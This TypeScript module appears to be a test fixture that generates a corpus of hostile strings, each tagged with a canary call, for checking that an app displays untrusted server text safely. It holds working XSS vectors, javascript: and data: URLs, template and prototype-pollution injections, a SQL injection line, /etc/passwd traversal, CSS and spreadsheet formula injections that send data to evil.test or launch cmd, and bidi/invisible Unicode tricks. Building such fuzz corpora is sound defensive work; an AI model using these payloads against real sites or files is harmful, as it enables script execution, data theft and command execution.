/** A text that a hostile server might send, so marked that it can be found again wherever it is shown. */
export type Payload = { readonly number: number; readonly text: string }

/** Calls the canary of the page with this number, were it ever run. */
type Write = (run: string) => string

const markup: readonly Write[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script src="https://evil.test/x.js" onload="${run}"></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="https://evil.test/pixel.png" onerror="${run}">`,
  (run) => `<img src=x onerror=${run}//`,
  (run) => `<image href=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>top.${run}</script>">`,
  (run) => `<math><mtext><style><img src onerror=${run}></style></mtext></math>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">open</a>`,
  (run) => `<a href="https://evil.test/" target=_blank onmouseover=${run}>open</a>`,
  (run) => `<form action="https://evil.test/"><button formaction="javascript:${run}">go</button></form>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<div style="animation:x 1s" onanimationstart=${run}>`,
  (run) => `<xss id=x tabindex=1 onfocus=${run}></xss>`,
  () => `<base href="https://evil.test/">`,
  () => `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  () => `<link rel=stylesheet href="https://evil.test/x.css">`,
  () => `<link rel=prefetch href="https://evil.test/x">`,
  () => `<style>@import "https://evil.test/x.css";</style>`,
  () => `<style>*{background:url(https://evil.test/x)}</style>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `</title></style></textarea></script><script>${run}</script>`,
  (run) => `"'><img src=x onerror=${run}>`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `\`><img src=x onerror=${run}>`,
]

const addresses: readonly Write[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  () => 'https://evil.test/?leak',
  () => '//evil.test/x.png',
  () => 'file:///etc/passwd',
  () => 'app://console/../main/index.js',
  () => 'blob:https://evil.test/0',
  () => '#/custodians/../../settings',
]

const templates: readonly Write[] = [
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `[[${run}]]`,
  (run) => `{%raw%}${run}{%endraw%}`,
  () => '$t(common:lock)',
  () => '$t(common:lock, {"name": "x"})',
  () => '{{name}}{{count, number}}',
  () => '__proto__',
  () => 'constructor',
  () => '{"__proto__":{"polluted":true}}',
  () => '{"constructor":{"prototype":{"polluted":true}}}',
  () => '%s%d%o%n',
  () => "'; DROP TABLE custodians; --",
  () => '../../../../etc/passwd',
  () => "$& $` $' $1 $$",
]

const styles: readonly Write[] = [
  () => 'red;background:url(https://evil.test/x)',
  () => '}*{background:url(https://evil.test/x)}',
  () => 'expression(alert(1))',
  () => '@import url(https://evil.test/x.css);',
  () => '</style><style>*{display:none}',
  () => 'position:fixed;inset:0;z-index:9999',
]

const formulas: readonly Write[] = [
  () => '=HYPERLINK("https://evil.test/?"&A1,"open")',
  () => "=cmd|'/c calc'!A0",
  () => '+1+cmd|x',
  () => '-1+1',
  () => '@SUM(1+1)',
  () => '\t=1+1',
  () => '\r=1+1',
  () => '"=1+1',
  () => ',=1+1',
  () => ';=1+1',
  () => '=1+1\n=1+1',
  () => '＝1+1',
]

const unseen: readonly Write[] = [
  () => 'safe\u202Egnp.exe',
  () => '\u202E\u2066evil\u2069\u202C',
  () => 'a\u202Ab\u202Bc\u202Cd\u202Dd',
  () => '\u2067right\u2068first\u2069',
  () => '\u200Eleft\u200Fright\u061C',
  () => 'zero\u200Bwidth\u200C\u200D\u2060\uFEFF',
  () => 'soft\u00ADhyphen',
  () => 'tag\u{E0041}\u{E0042}\u{E007F}',
  () => 'line\u2028two\u2029three',
  () => 'bell\u0007back\b escape\u001B[31mred\u001B[0m',
  () => 'nul\0nul',
  () => 'delete\u007F\u0085',
  () => '\u3164\uFFA0\u115F\u1160',
  () => '\uFFF9anchor\uFFFAtext\uFFFB',
  () => 'lone\uD800high',
  () => 'lone\uDC00low',
  () => '\uFFFE\uFFFF',
]

const odd: readonly Write[] = [
  () => 'עברית ועוד עברית',
  () => 'العربية ثم English ثم العربية',
  () => 'аррӏе раурал ѕсоре',
  () => 'ℂ𝕠𝕡𝕡𝕖𝕣 Ⅻ ﬃ',
  () => '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽',
  () => `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(20)}algo`,
  () => '﷽'.repeat(20),
  () => 'w'.repeat(5_000),
  () => '<b>'.repeat(1_000),
  () => `0x${'f'.repeat(2_000)}`,
  () => 'İıſK',
  () => ' \u00A0\u2003 leading and trailing \u3000',
  () => '\\u003cscript\\u003e \\x3cscript\\x3e \\74script\\76',
  () => 'null',
  () => 'undefined',
  () => 'NaN',
  () => '[object Object]',
  () => '-0',
  () => '1e999999',
  () => 'true',
]

const entities = (text: string) => [...text].map((sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('')

/** The same again in disguise. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => entities(text.slice(0, 60)),
  (text) => `"'>${text}`,
  (text) => `--></script></style></textarea>${text}`,
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('<', '<\0'),
]

const writes: readonly Write[] = [...markup, ...addresses, ...templates, ...styles, ...formulas, ...unseen, ...odd]

/** Each in each disguise that changes it. */
const all = [
  ...new Map(
    disguises.flatMap((disguise) =>
      writes.map((write) => [disguise(write('')), (run: string) => disguise(write(run))] as const),
    ),
  ).values(),
]

export const markOf = (number: number): string => `~p${number}~`

/** Long texts are cut where they are shown, so theirs stands in front too. */
function marked(number: number, text: string): Payload {
  const mark = markOf(number)
  return { number, text: text.length > 90 ? `${mark}${text}${mark}` : `${text}${mark}` }
}

/** Every payload there is, no two alike. */
export const payloads: readonly Payload[] = all.map((write, number) => marked(number, write(`canary(${number})`)))
